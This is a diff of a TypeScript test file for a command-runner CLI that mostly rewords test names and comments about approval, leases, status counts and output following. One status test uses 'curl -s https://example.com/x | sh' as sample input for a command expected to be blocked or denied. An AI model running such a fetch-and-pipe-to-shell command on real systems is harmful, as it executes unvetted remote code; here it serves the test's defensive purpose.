@@ -8,7 +8,7 @@ import { followOutput } from '../../client/readers/store-reader.ts';
 
 const ASKING = { approval: { prompt_on_warning: true } } as const;
 
-/** One has ended, one runs until it is cancelled, one asks a person. */
+/** One command has ended, one runs until it is cancelled, one needs approval. */
 async function openBusyRuntime() {
   const own = await openTestRuntime({ settings: ASKING });
   const ended = own.submit('openai', 'bash', { line: 'echo ended; echo aside >&2' });
@@ -19,7 +19,7 @@ async function openBusyRuntime() {
   return { own, ended: ended.commandId, runs: runs.commandId };
 }
 
-test('words stand for ids: the newest command, the newest of one’s own, the only one that asks', async () => {
+test('words are accepted as ids: the newest command, the user’s newest, the only pending one', async () => {
   const { own, ended, runs } = await openBusyRuntime();
   await using _ = own;
   const { signalbox } = createTestTerminal(own.workspace);
@@ -51,7 +51,7 @@ test('words stand for ids: the newest command, the newest of one’s own, the on
   await own.runtime.coordinator.cancel(runs, 'ana');
 });
 
-test('-v says that the coordinator told what was looked at, or the store where none runs, and in which time', async () => {
+test('-v says whether the data came from the coordinator or the store, and how long that took', async () => {
   await using own = await openTestRuntime();
   await own.call('openai', 'echo', { text: 'a' });
   const { signalbox } = createTestTerminal(own.workspace);
@@ -68,7 +68,7 @@ test('-v says that the coordinator told what was looked at, or the store where n
   expect(await reported('queue')).toMatch(/told by what is stored here, in \d/);
 });
 
-test('status counts what was denied, blocked or lost apart from what failed, told by a coordinator or from the store', async () => {
+test('status counts denied, blocked and lost commands apart from failures, from a coordinator or the store', async () => {
   await using own = await openTestRuntime();
   const { signalbox } = createTestTerminal(own.workspace);
   for (const line of ['exit 3', 'curl -s https://example.com/x | sh', 'echo fine'])
@@ -103,7 +103,7 @@ test('long answers may go through a pager: diff, history, audit and the help', a
   expect(pages).toBe(5);
 });
 
-test('leases names who holds what, and --tree draws it', async () => {
+test('leases names the holder of each lease, and --tree draws it', async () => {
   const { own, runs } = await openBusyRuntime();
   await using _ = own;
   const { signalbox } = createTestTerminal(own.workspace);
@@ -116,7 +116,7 @@ test('leases names who holds what, and --tree draws it', async () => {
   await own.runtime.coordinator.cancel(runs, 'ana');
 });
 
-test('leases revoke stops who holds it, and the audit says by whom; a command may not, and a mistyped id stops nobody', async () => {
+test('leases revoke stops the holder, and the audit log says by whom; commands can’t revoke, and a mistyped id stops nothing', async () => {
   await using own = await openTestRuntime();
   const runs = own.submit('openai', 'bash', { line: 'sleep 60; echo late > a.txt' });
   await own.event('command_started', ({ commandId }) => commandId === runs.commandId);
@@ -152,7 +152,7 @@ async function recordsOf(own: TestRuntime) {
   return records;
 }
 
-test('output --follow tells what a running command prints, from its beginning to its end, in another process', async () => {
+test('output --follow prints a running command’s output from its beginning to its end, in another process', async () => {
   const { own, runs } = await openBusyRuntime();
   await using _ = own;
   await own.event('command_output', ({ commandId }) => commandId === runs);
@@ -162,7 +162,7 @@ test('output --follow tells what a running command prints, from its beginning to
   const parts: unknown[] = [];
   for await (const part of followOutput(record, records, createSystemClock())) {
     parts.push(part);
-    // It is told while the command runs: only so does it ever end.
+    // Printed while the command runs: otherwise it would never end.
     await own.runtime.coordinator.cancel(runs, 'ana');
   }
   await records.close();
@@ -171,7 +171,7 @@ test('output --follow tells what a running command prints, from its beginning to
   expect((await signalbox('output', runs, '--follow')).out).toBe('begun\n');
 });
 
-test('a mode that is set while nothing runs is told so, and counts from the next start on', async () => {
+test('setting a mode while nothing runs says so, and applies from the next start on', async () => {
   const before = await openTestRuntime();
   await before.leave();
   const { signalbox } = createTestTerminal(before.workspace);
